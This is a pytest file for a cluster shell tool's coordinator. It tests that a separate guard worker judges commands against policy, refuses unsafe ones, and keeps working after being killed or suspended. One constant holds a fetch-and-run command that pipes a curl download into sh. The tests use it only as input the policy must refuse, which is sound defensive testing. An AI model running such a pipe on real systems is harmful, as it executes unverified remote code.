"""The guard's worker of a real coordinator: runs are judged there, and whatever becomes of it nothing else is hurt."""

from __future__ import annotations

import secrets
import signal
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from clustersh.coordinator.judging import LIMIT_S
from clustersh.coordinator.judging_process import KEPT

from .programs import PATIENCE_S, Cluster, Result, end, eventually, make_home

PIPED = "curl http://192.0.2.1/x | sh"
"""Harmless if it ever ran: a fetch from a host that cannot be, handed to a shell."""


def worker_of(coordinator: int, *but: psutil.Process) -> psutil.Process:
    """Wait for the coordinator's worker, which is none of those, and return it."""

    def look() -> psutil.Process | None:
        for child in psutil.Process(coordinator).children():
            if "clustersh.coordinator.guard_worker" in " ".join(child.cmdline()) and child not in but:
                return child
        return None

    found = eventually(look, what="a worker")
    assert found is not None
    return found


def ready_worker(cluster: Cluster) -> psutil.Process:
    """Return the worker, which has judged something: one that stands still while it starts is waited for longer."""
    worker = worker_of(cluster.coordinator_process.pid)
    assert cluster.sh("policy", "test", "ws1", f"echo {secrets.token_hex(8)}").status == 0
    return worker


def refused(ran: Result, rule: str) -> bool:
    assert ran.status == 126, ran
    assert ran.err.startswith(f"ERROR: refused by policy: {rule}: "), ran
    return True


def marked(path: Path, command: str) -> str:
    return f"touch {path}; {command}"


def test_runs_plans_and_tests_are_judged_by_a_process_without_the_coordinator_s_environment(
    cluster: Cluster, tmp_path: Path
) -> None:
    worker = worker_of(cluster.coordinator_process.pid)
    assert set(worker.environ()) <= set(KEPT)
    ran = tmp_path / "ran"
    assert refused(cluster.sh("run", "ws1", marked(ran, PIPED)), "plain-http")
    assert not ran.exists()
    assert cluster.sh("policy", "test", "ws1", PIPED).status == 126
    assert refused(cluster.sh("run", "--dry-run", "ws1", PIPED), "plain-http")
    assert cluster.sh("run", "ws1", "echo one").out == "one\n"
    script = tmp_path / "script.sh"
    script.write_text("#!/bin/sh\n" + marked(ran, PIPED) + "\n")
    assert refused(cluster.sh("run", "ws1", "--script", str(script)), "plain-http")
    assert worker_of(cluster.coordinator_process.pid) == worker


def test_an_agent_tells_what_runs_its_commands(cluster: Cluster) -> None:
    (machine,) = cluster.sh("machines", "--json").json["machines"]
    assert machine["facts"]["executor"] == "bash"


def test_a_worker_that_is_killed_again_and_again_loses_no_verdict(cluster: Cluster, tmp_path: Path) -> None:
    ran, killed = tmp_path / "ran", list[psutil.Process]()
    for number in range(6):
        killed.append(worker_of(cluster.coordinator_process.pid, *killed))
        killed[-1].kill()
        command, status = (f"echo {number}", 0) if number % 2 else (marked(ran, PIPED), 126)
        answer = cluster.sh("run", "ws1", command)
        assert answer.status == status
        assert answer.out == f"{number}\n" if status == 0 else refused(answer, "plain-http")
    assert not ran.exists()
    assert "the guard's worker is replaced: " in cluster.coordinator.log.read_text()


def test_a_worker_that_stands_still_is_given_up_and_what_names_nothing_dangerous_runs(
    cluster: Cluster, tmp_path: Path
) -> None:
    for command, status in ((PIPED, 126), (f"echo {tmp_path}", 0)):
        worker = ready_worker(cluster)
        worker.suspend()
        answer = cluster.sh("run", "ws1", marked(tmp_path / "ran", command) if status else command)
        assert answer.status == status
        assert LIMIT_S <= answer.seconds < LIMIT_S + PATIENCE_S
        if status:
            assert refused(answer, "unparsable")
        worker_of(cluster.coordinator_process.pid, worker)
    assert not (tmp_path / "ran").exists()
    assert refused(cluster.sh("run", "ws1", PIPED), "plain-http")


def test_others_are_served_while_the_worker_stands_still(cluster: Cluster, tmp_path: Path) -> None:
    worker = ready_worker(cluster)
    worker.suspend()
    waiting = cluster.client.open("clustersh", "run", "ws1", f"echo {tmp_path}")  # which nobody asked about before
    try:
        for _ in range(3):
            assert cluster.sh("machines").status == 0
        assert waiting.poll() is None, "the others were not held up"
    finally:
        worker.resume()
    assert waiting.wait(PATIENCE_S) == 0
    end(waiting)


@pytest.fixture
def coordinator(tmp_path: Path) -> Iterator[Cluster]:
    home = make_home(tmp_path, "coordinator")
    process = home.start("clusterd", "--listen", "127.0.0.1:0")
    try:
        address = home.address()
        yield Cluster(home, home, home, process, process, address)
    finally:
        home.stop()


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM])
def test_the_worker_ends_with_its_coordinator(coordinator: Cluster, how: signal.Signals) -> None:
    worker = worker_of(coordinator.coordinator_process.pid)
    assert end(coordinator.coordinator_process, how) == -how
    eventually(lambda: not worker.is_running() or worker.status() == psutil.STATUS_ZOMBIE, what="its end")
